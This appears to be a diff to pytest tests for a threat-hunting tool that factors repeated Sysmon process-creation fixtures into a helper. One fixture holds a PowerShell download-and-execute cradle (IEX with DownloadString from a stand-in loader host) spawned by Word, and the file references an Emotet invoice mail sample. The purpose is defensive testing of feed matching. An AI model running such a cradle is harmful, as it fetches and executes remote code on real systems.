@@ -53,6 +53,19 @@ class BrokenDetector(Detector):
         raise ValueError("cannot cope")
 
 
+def process_creation(event_data: dict[str, str]) -> dict[str, Any]:
+    """A Sysmon process creation on WS-07, as evtx JSON."""
+    system = {
+        "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
+        "EventID": 1,
+        "EventRecordID": 7,
+        "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T00:14:03Z"}},
+        "Channel": "Microsoft-Windows-Sysmon/Operational",
+        "Computer": "WS-07",
+    }
+    return {"Event": {"System": system, "EventData": event_data}}
+
+
 @pytest.fixture
 def detectors(monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setattr(
@@ -103,24 +116,14 @@ def test_decoded_urls_are_matched_against_the_feeds(tmp_path: Path) -> None:
     feed = tmp_path / "urlhaus.txt"
     feed.write_text("http://loader.invalid/a/\n")
     rule_dir = Path(__file__).resolve().parent / "data" / "cli" / "rules"
-    event = {
-        "Event": {
-            "System": {
-                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
-                "EventID": 1,
-                "EventRecordID": 7,
-                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T00:14:03Z"}},
-                "Channel": "Microsoft-Windows-Sysmon/Operational",
-                "Computer": "WS-07",
-            },
-            "EventData": {
-                "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
-                "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
-                "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString("
-                "'http://loader.invalid/a/')",
-            },
+    event = process_creation(
+        {
+            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+            "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+            "CommandLine": "powershell IEX (New-Object Net.WebClient).DownloadString("
+            "'http://loader.invalid/a/')",
         }
-    }
+    )
     log = tmp_path / "ws-07.json"
     log.write_text(json.dumps(event) + "\n")
     result = run_hunt(
@@ -196,19 +199,7 @@ def test_files_whose_names_are_not_utf8_are_read(tmp_path: Path) -> None:
 
     from sekimori.samples.mail import emotet_invoice_mail
 
-    event = {
-        "Event": {
-            "System": {
-                "Provider": {"#attributes": {"Name": "Microsoft-Windows-Sysmon"}},
-                "EventID": 1,
-                "EventRecordID": 7,
-                "TimeCreated": {"#attributes": {"SystemTime": "2026-11-24T00:14:03Z"}},
-                "Channel": "Microsoft-Windows-Sysmon/Operational",
-                "Computer": "WS-07",
-            },
-            "EventData": {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd"},
-        }
-    }
+    event = process_creation({"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd"})
     folder = os.fsencode(tmp_path)
     with open(folder + b"/ws\xff.json", "w") as fh:
         fh.write(json.dumps(event) + "\n")
